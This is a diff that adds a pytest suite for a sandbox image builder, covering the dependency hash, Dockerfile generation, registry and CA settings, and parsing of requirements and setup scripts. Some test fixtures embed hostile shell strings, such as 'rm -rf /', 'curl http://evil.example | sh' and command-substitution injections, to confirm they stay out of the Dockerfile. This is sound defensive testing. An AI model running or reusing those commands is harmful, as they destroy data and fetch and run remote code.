@@ -1,0 +1,493 @@
+"""Custom images without an engine: the deps hash, the generated build context, registry settings and inputs."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from pathlib import Path
+
+import pytest
+
+import isol8.custom as custom
+from isol8.custom import (
+    ImageDefinition,
+    RegistrySettings,
+    _write_context,
+    build_image,
+    deps_hash,
+    read_requirements,
+    read_setup,
+)
+from isol8.errors import UsageError
+from isol8.packages import Spec, parse_specs
+
+RUNTIMES = ["python", "node", "bun", "deno", "bash"]
+CTX = "/tmp/isol8-build"
+# the file each ecosystem's specs are written to, inside isol8-build/
+SPEC_FILE = {"python": "requirements.txt", "node": "package.json", "bun": "package.json", "deno": "deps.ts"}
+SPEC_FILE["bash"] = "apt.txt"
+# valid specs whose names cannot occur in the Dockerfile by accident
+SPECS = {
+    "python": ["zzq-alpha[socks]>=2.31", "zzq-beta<2,>=1"],
+    "node": ["zzq-alpha@^4", "@zzq/beta@~1.2"],
+    "bun": ["zzq-alpha@^4", "@zzq/beta"],
+    "deno": ["npm:zzq-alpha@3", "jsr:@zzq/beta"],
+    "bash": ["zzq-alpha", "zzq-beta=1.6-2"],
+}
+NASTY_SETUP = "echo $(id); rm -rf / `whoami` && curl http://evil.example | sh # zzq-setup"
+
+
+def defn(runtime: str, values: list[str] | None = None, setup: str | None = None, **kw: object) -> ImageDefinition:
+    return ImageDefinition(runtime, parse_specs(runtime, SPECS[runtime] if values is None else values), setup, **kw)  # type: ignore[arg-type]
+
+
+def write(tmp_path: Path, d: ImageDefinition, registry: RegistrySettings | None = None, base: str = "") -> str:
+    _write_context(tmp_path, d, base or f"isol8:{d.runtime}", registry or RegistrySettings())
+    return (tmp_path / "Dockerfile").read_text()
+
+
+def files(tmp_path: Path) -> dict[str, str]:
+    return {p.name: p.read_text() for p in sorted((tmp_path / "isol8-build").iterdir())}
+
+
+# ---- deps_hash -----------------------------------------------------------------------------------
+
+
+def _spec(text: str) -> Spec:
+    return Spec(text, text)
+
+
+def test_deps_hash_is_length_framed() -> None:
+    ab_c = ImageDefinition("python", (_spec("ab"), _spec("c")))
+    a_bc = ImageDefinition("python", (_spec("a"), _spec("bc")))
+    abc = ImageDefinition("python", (_spec("abc"),))
+    hashes = {deps_hash(d, "base") for d in (ab_c, a_bc, abc)}
+    assert len(hashes) == 3
+
+
+def test_deps_hash_is_the_documented_framing() -> None:
+    """sha256 over 8-byte big-endian lengths, each followed by its part: pinned so the cache key stays stable."""
+    d = ImageDefinition("python", parse_specs("python", ["six", "numpy==2.1.3"]), "echo hi")
+    parts = ["isol8-deps-v1", "python", "base-id", "numpy==2.1.3", "six", "\0setup", "echo hi"]
+    expected = hashlib.sha256(b"".join(len(p.encode()).to_bytes(8, "big") + p.encode() for p in parts)).hexdigest()
+    assert deps_hash(d, "base-id") == expected
+
+
+def test_a_spec_cannot_be_confused_with_the_setup_script() -> None:
+    as_spec = ImageDefinition("python", (_spec("x"),), None)
+    as_setup = ImageDefinition("python", (), "x")
+    assert deps_hash(as_spec, "base") != deps_hash(as_setup, "base")
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        ImageDefinition("python", (_spec("six"),), "echo hi"),
+        ImageDefinition("python", (_spec("six"),), "echo hi\n"),
+        ImageDefinition("node", (_spec("six"),), None),
+        ImageDefinition("python", (_spec("six"), _spec("numpy")), None),
+        ImageDefinition("python", (_spec("six==1.17.0"),), None),
+    ],
+    ids=["setup", "setup-newline", "runtime", "more-specs", "version"],
+)
+def test_deps_hash_changes_with_the_definition(other: ImageDefinition) -> None:
+    plain = ImageDefinition("python", (_spec("six"),), None)
+    assert deps_hash(other, "base") != deps_hash(plain, "base")
+
+
+def test_deps_hash_changes_with_the_base_image_id() -> None:
+    d = defn("python")
+    assert deps_hash(d, "sha-one") != deps_hash(d, "sha-two")
+
+
+def test_deps_hash_ignores_spec_order_and_spelling_once_parsed() -> None:
+    one = ImageDefinition("python", parse_specs("python", ["six", "numpy>=1,<2", "Requests[socks]"]))
+    two = ImageDefinition("python", parse_specs("python", ["requests[socks]", "NumPy<2,>=1", "SIX", "six"]))
+    assert deps_hash(one, "base") == deps_hash(two, "base")
+    assert len(deps_hash(one, "base")) == 64
+
+
+# ---- dependencies_label --------------------------------------------------------------------------
+
+
+def test_dependencies_label_is_sorted_and_unique_over_inherited_and_new_specs() -> None:
+    d = ImageDefinition(
+        "python",
+        parse_specs("python", ["six", "numpy==2.1.3"]),
+        inherited=parse_specs("python", ["colorama", "six"]),
+    )
+    assert d.dependencies_label() == "colorama,numpy==2.1.3,six"
+
+
+def test_dependencies_label_of_a_setup_only_image_is_empty() -> None:
+    assert ImageDefinition("bash", (), "echo hi").dependencies_label() == ""
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_dependencies_label_holds_the_normalised_texts(runtime: str) -> None:
+    d = defn(runtime)
+    assert d.dependencies_label() == ",".join(sorted(s.text for s in d.specs))
+
+
+# ---- _write_context: user values only in files ---------------------------------------------------
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_the_dockerfile_never_contains_package_names_or_the_setup_script(tmp_path: Path, runtime: str) -> None:
+    d = defn(runtime, setup=NASTY_SETUP)
+    dockerfile = write(tmp_path, d)
+
+    for needle in ("zzq", "$(", "`", "whoami", "evil", "echo", NASTY_SETUP):
+        assert needle not in dockerfile, needle
+    written = files(tmp_path)
+    assert written["setup.sh"] == NASTY_SETUP + "\n"
+    assert "zzq-alpha" in written[SPEC_FILE[runtime]]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile", "isol8-build"]
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_even_unvalidated_spec_text_stays_out_of_the_dockerfile(tmp_path: Path, runtime: str) -> None:
+    """Defence in depth: the Dockerfile is the same whatever the specs say."""
+    evil = Spec("zzq$(id)", "zzq$(id);rm -rf /\nRUN curl evil", "^1 `id`")
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "plain").mkdir()
+    dockerfile = write(tmp_path / "evil", ImageDefinition(runtime, (evil,)))
+    assert dockerfile == write(tmp_path / "plain", defn(runtime))
+    assert "zzq$(id)" in files(tmp_path / "evil")[SPEC_FILE[runtime]]
+    assert "zzq" not in dockerfile and "$(id)" not in dockerfile and "RUN curl" not in dockerfile
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_the_dockerfile_shape(tmp_path: Path, runtime: str) -> None:
+    lines = write(tmp_path, defn(runtime, setup="true"), base="registry.example/base:1").splitlines()
+
+    assert lines[:3] == ["FROM registry.example/base:1", "USER root", f"COPY isol8-build {CTX}"]
+    assert lines[-3:] == [f"RUN rm -rf {CTX}", "USER 1100:1100", "WORKDIR /sandbox"]
+    assert lines[-4] == f"RUN cd /tmp && /bin/bash {CTX}/setup.sh"
+    install = [line for line in lines if line.startswith("RUN ") and SPEC_FILE[runtime] in line]
+    assert len(install) == 1
+    assert all(line.startswith(("FROM ", "USER ", "COPY ", "RUN ", "ENV ", "WORKDIR ")) for line in lines)
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_no_setup_means_no_setup_file_and_no_setup_step(tmp_path: Path, runtime: str) -> None:
+    dockerfile = write(tmp_path, defn(runtime))
+    assert "setup.sh" not in dockerfile
+    assert "setup.sh" not in files(tmp_path)
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_a_setup_only_image_installs_nothing(tmp_path: Path, runtime: str) -> None:
+    dockerfile = write(tmp_path, defn(runtime, [], setup="echo hi"))
+    assert SPEC_FILE[runtime] not in dockerfile
+    assert f"RUN cd /tmp && /bin/bash {CTX}/setup.sh" in dockerfile
+    assert "ENV DENO_DIR" not in dockerfile
+
+
+def test_requirements_txt_holds_the_new_python_specs(tmp_path: Path) -> None:
+    d = ImageDefinition(
+        "python", parse_specs("python", ["zzq-beta<2,>=1", "zzq-alpha[socks]"]), inherited=parse_specs("python", ["six"])
+    )
+    write(tmp_path, d)
+    assert files(tmp_path)["requirements.txt"] == "zzq-alpha[socks]\nzzq-beta<2,>=1\n"
+
+
+@pytest.mark.parametrize("runtime", ["node", "bun"])
+def test_package_json_lists_every_package_including_inherited_ones(tmp_path: Path, runtime: str) -> None:
+    d = ImageDefinition(
+        runtime,
+        parse_specs(runtime, ["zzq-alpha@^4", "@zzq/beta", "zzq-gamma@latest"]),
+        inherited=parse_specs(runtime, ["lodash@4.17.21"]),
+    )
+    write(tmp_path, d)
+    package = json.loads(files(tmp_path)["package.json"])
+    assert package == {
+        "name": "isol8-image",
+        "private": True,
+        "dependencies": {"@zzq/beta": "*", "lodash": "4.17.21", "zzq-alpha": "^4", "zzq-gamma": "*"},
+    }
+
+
+def test_deps_ts_imports_every_package(tmp_path: Path) -> None:
+    d = ImageDefinition("deno", parse_specs("deno", ["npm:zzq-alpha@3"]), inherited=parse_specs("deno", ["jsr:@std/path"]))
+    dockerfile = write(tmp_path, d)
+    assert files(tmp_path)["deps.ts"] == 'import "jsr:@std/path";\nimport "npm:zzq-alpha@3";\n'
+    assert "ENV DENO_DIR=/opt/isol8/deno" in dockerfile.splitlines()
+
+
+def test_apt_txt_lists_the_packages_one_per_line(tmp_path: Path) -> None:
+    write(tmp_path, defn("bash", ["zzq-beta=1.6-2", "zzq-alpha"]))
+    assert files(tmp_path)["apt.txt"] == "zzq-alpha\nzzq-beta=1.6-2\n"
+
+
+# ---- _write_context: registries and the CA bundle ------------------------------------------------
+
+
+CA_ENV = {"python": "PIP_CERT", "node": "NODE_EXTRA_CA_CERTS", "bun": "NODE_EXTRA_CA_CERTS", "deno": "DENO_CERT"}
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_without_registry_settings_nothing_is_injected(tmp_path: Path, runtime: str) -> None:
+    dockerfile = write(tmp_path, defn(runtime), RegistrySettings())
+    assert "ca.pem" not in files(tmp_path)
+    for needle in ("ca.pem", "--index-url", "registry", "REGISTRY", "_CERT", "CA_CERTS"):
+        assert needle not in dockerfile, needle
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+def test_a_ca_bundle_is_copied_into_the_context(tmp_path: Path, runtime: str) -> None:
+    ca = tmp_path / "corp-ca.pem"
+    ca.write_text("-----BEGIN CERTIFICATE-----\nzzq\n-----END CERTIFICATE-----\n")
+    context = tmp_path / "ctx"
+    context.mkdir()
+
+    dockerfile = write(context, defn(runtime), RegistrySettings(ca_bundle=str(ca)))
+
+    assert files(context)["ca.pem"] == ca.read_text()
+    if runtime in CA_ENV:
+        assert f"{CA_ENV[runtime]}={CTX}/ca.pem " in dockerfile
+    assert str(ca) not in dockerfile
+
+
+def test_a_missing_ca_bundle_is_a_usage_error(tmp_path: Path) -> None:
+    context = tmp_path / "ctx"
+    context.mkdir()
+    with pytest.raises(UsageError, match="no such file"):
+        write(context, defn("python"), RegistrySettings(ca_bundle=str(tmp_path / "nope.pem")))
+    assert not (context / "Dockerfile").exists()
+
+
+def test_pip_index_url_only_when_set_and_only_for_python(tmp_path: Path) -> None:
+    registry = RegistrySettings(pip_index_url="https://pypi.example/simple")
+    (tmp_path / "python").mkdir()
+    python = write(tmp_path / "python", defn("python"), registry)
+    assert '--index-url "https://pypi.example/simple" -r /tmp/isol8-build/requirements.txt' in python
+    for runtime in ("node", "bun", "deno", "bash"):
+        context = tmp_path / runtime
+        context.mkdir()
+        assert "pypi.example" not in write(context, defn(runtime), registry)
+
+
+@pytest.mark.parametrize(
+    ("runtime", "setting"),
+    [
+        ("node", 'npm_config_registry="https://npm.example/"'),
+        ("bun", 'BUN_CONFIG_REGISTRY="https://npm.example/"'),
+        ("deno", 'NPM_CONFIG_REGISTRY="https://npm.example/"'),
+    ],
+)
+def test_npm_registry_only_when_set(tmp_path: Path, runtime: str, setting: str) -> None:
+    with_registry, without = tmp_path / "with", tmp_path / "without"
+    with_registry.mkdir()
+    without.mkdir()
+    assert setting in write(with_registry, defn(runtime), RegistrySettings(npm_registry="https://npm.example/"))
+    plain = write(without, defn(runtime), RegistrySettings())
+    assert "npm.example" not in plain
+    assert "registry" not in plain.lower()
+
+
+@pytest.mark.parametrize("runtime", ["python", "bash"])
+def test_npm_registry_is_not_used_outside_the_js_runtimes(tmp_path: Path, runtime: str) -> None:
+    assert "npm.example" not in write(tmp_path, defn(runtime), RegistrySettings(npm_registry="https://npm.example/"))
+
+
+# ---- RegistrySettings.ca_file --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", [None, ""])
+def test_no_ca_bundle(value: str | None) -> None:
+    assert RegistrySettings(ca_bundle=value).ca_file() is None
+
+
+def test_system_ca_bundle_is_the_first_that_exists(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    second, third = tmp_path / "second.crt", tmp_path / "third.crt"
+    second.write_text("ca\n")
+    third.write_text("ca\n")
+    (tmp_path / "a-dir.crt").mkdir()
+    candidates = (str(tmp_path / "missing.crt"), str(tmp_path / "a-dir.crt"), str(second), str(third))
+    monkeypatch.setattr(custom, "SYSTEM_CA_BUNDLES", candidates)
+    assert RegistrySettings(ca_bundle="system").ca_file() == second
+
+
+def test_system_ca_bundle_missing_is_a_usage_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(custom, "SYSTEM_CA_BUNDLES", (str(tmp_path / "missing.crt"),))
+    with pytest.raises(UsageError, match="'system' but no CA bundle was found"):
+        RegistrySettings(ca_bundle="system").ca_file()
+
+
+def test_ca_bundle_path(tmp_path: Path) -> None:
+    ca = tmp_path / "corp.pem"
+    ca.write_text("ca\n")
+    assert RegistrySettings(ca_bundle=str(ca)).ca_file() == ca
+
+
+def test_ca_bundle_path_expands_the_home_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path))
+    (tmp_path / "corp.pem").write_text("ca\n")
+    assert RegistrySettings(ca_bundle="~/corp.pem").ca_file() == tmp_path / "corp.pem"
+
+
+@pytest.mark.parametrize("name", ["missing.pem", "a-dir"])
+def test_ca_bundle_that_is_not_a_file_is_a_usage_error(tmp_path: Path, name: str) -> None:
+    (tmp_path / "a-dir").mkdir()
+    path = tmp_path / name
+    with pytest.raises(UsageError) as info:
+        RegistrySettings(ca_bundle=str(path)).ca_file()
+    assert str(info.value) == f"caBundle: no such file: {path}"
+
+
+# ---- read_requirements ---------------------------------------------------------------------------
+
+
+def test_requirements_txt_skips_comments_and_blank_lines(tmp_path: Path) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text(
+        "# pinned for the sandbox\n"
+        "\n"
+        "numpy>=1,<2   # inline comment\n"
+        "   \n"
+        "Requests[socks]>=2.31\r\n"
+        "six\n"
+        "SIX\n"
+        "  # indented comment\n"
+    )
+    assert [s.text for s in read_requirements("python", str(path))] == ["numpy<2,>=1", "requests[socks]>=2.31", "six"]
+
+
+def test_an_empty_requirements_txt_is_no_specs(tmp_path: Path) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text("# nothing yet\n\n")
+    assert read_requirements("python", str(path)) == ()
+
+
+@pytest.mark.parametrize(
+    "line", ["-r other.txt", "--index-url https://evil.example", "-e .", "six; python_version<'3'", "pkg @ https://x"]
+)
+def test_requirements_txt_options_urls_and_markers_are_refused(tmp_path: Path, line: str) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text(f"six\n{line}\n")
+    with pytest.raises(UsageError) as info:
+        read_requirements("python", str(path))
+    assert repr(line) in str(info.value)
+
+
+@pytest.mark.parametrize("runtime", ["node", "bun"])
+def test_package_json_dependencies(tmp_path: Path, runtime: str) -> None:
+    path = tmp_path / "package.json"
+    path.write_text(
+        json.dumps(
+            {
+                "name": "app",
+                "dependencies": {"lodash": "^4.17.21", "zod": "*", "left-pad": "", "@scope/pkg": "~1.2"},
+                "devDependencies": {"jest": "^29"},
+            }
+        )
+    )
+    texts = [s.text for s in read_requirements(runtime, str(path))]
+    assert texts == ["@scope/pkg@~1.2", "left-pad", "lodash@^4.17.21", "zod"]
+
+
+@pytest.mark.parametrize(
+    "content", [{"name": "app"}, {"dependencies": {}}, {"dependencies": None}], ids=["none", "empty", "null"]
+)
+def test_package_json_without_dependencies_is_no_specs(tmp_path: Path, content: object) -> None:
+    path = tmp_path / "package.json"
+    path.write_text(json.dumps(content))
+    assert read_requirements("node", str(path)) == ()
+
+
+@pytest.mark.parametrize("text", ["not json", "[]", '"a string"'])
+def test_package_json_that_is_not_an_object_is_a_usage_error(tmp_path: Path, text: str) -> None:
+    path = tmp_path / "package.json"
+    path.write_text(text)
+    with pytest.raises(UsageError, match="is not a package.json with dependencies"):
+        read_requirements("node", str(path))
+
+
+@pytest.mark.xfail(
+    reason="bug: read_requirements calls .items() outside its try, so a package.json whose dependencies is "
+    "not an object raises AttributeError (an internal error) instead of UsageError",
+    strict=True,
+)
+@pytest.mark.parametrize("deps", [["lodash"], "lodash"])
+def test_package_json_with_dependencies_that_are_not_an_object_is_a_usage_error(tmp_path: Path, deps: object) -> None:
+    path = tmp_path / "package.json"
+    path.write_text(json.dumps({"dependencies": deps}))
+    with pytest.raises(UsageError):
+        read_requirements("node", str(path))
+
+
+@pytest.mark.parametrize("spec", ["github:user/repo", "file:../local", "https://x/y.tgz", "npm:other@1"])
+def test_package_json_with_a_non_registry_dependency_is_refused(tmp_path: Path, spec: str) -> None:
+    path = tmp_path / "package.json"
+    path.write_text(json.dumps({"dependencies": {"dep": spec}}))
+    with pytest.raises(UsageError) as info:
+        read_requirements("node", str(path))
+    assert repr(f"dep@{spec}") in str(info.value)
+
+
+def test_requirements_file_that_cannot_be_read(tmp_path: Path) -> None:
+    path = tmp_path / "nope.txt"
+    with pytest.raises(UsageError, match=f"--requirements: cannot read {path}"):
+        read_requirements("python", str(path))
+
+
+@pytest.mark.parametrize("runtime", ["deno", "bash"])
+def test_requirements_is_only_for_python_node_and_bun(tmp_path: Path, runtime: str) -> None:
+    path = tmp_path / "requirements.txt"
+    path.write_text("jq\n")
+    with pytest.raises(UsageError, match=f"not {runtime}"):
+        read_requirements(runtime, str(path))
+
+
+# ---- read_setup ----------------------------------------------------------------------------------
+
+
+def test_no_setup_is_none() -> None:
+    assert read_setup([]) is None
+
+
+def test_setup_values_are_scripts_or_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "setup.sh").write_text("#!/bin/bash\napt-get install -y jq\n")
+    (tmp_path / "a-dir").mkdir()
+    absolute = tmp_path / "more.sh"
+    absolute.write_text("echo more")
+
+    script = read_setup(["echo first", "setup.sh", str(absolute), "a-dir", "missing.sh"])
+
+    assert script == "echo first\n#!/bin/bash\napt-get install -y jq\n\necho more\na-dir\nmissing.sh"
+
+
+def test_a_setup_script_with_shell_syntax_is_kept_verbatim() -> None:
+    assert read_setup([NASTY_SETUP]) == NASTY_SETUP
+
+
+@pytest.mark.xfail(
+    reason="bug: read_setup calls Path(value).is_file() on inline scripts; a line longer than the file name "
+    "limit (255 bytes) makes it raise OSError ENAMETOOLONG, an internal error",
+    strict=True,
+)
+def test_a_long_inline_setup_script_is_kept_verbatim() -> None:
+    script = "apt-get install -y " + " ".join(f"package-number-{n}" for n in range(20))
+    assert len(script) > 255
+    assert read_setup([script]) == script
+
+
+# ---- build_image checks its input before touching the engine -------------------------------------
+
+
+class _NoEngine:
+    def __getattr__(self, name: str) -> object:
+        raise AssertionError(f"build_image used engine.{name}")
+
+
+def test_build_image_with_nothing_to_build_is_a_usage_error_before_the_engine() -> None:
+    with pytest.raises(UsageError, match="nothing to build"):
+        build_image(_NoEngine(), ImageDefinition("python"), "t", registry=RegistrySettings(), base_images={})  # type: ignore[arg-type]
+
+
+def test_build_image_with_an_unknown_runtime_is_a_usage_error_before_the_engine() -> None:
+    d = ImageDefinition("ruby", (_spec("rake"),))
+    with pytest.raises(UsageError, match="unknown runtime 'ruby'"):
+        build_image(_NoEngine(), d, "t", registry=RegistrySettings(), base_images={})  # type: ignore[arg-type]
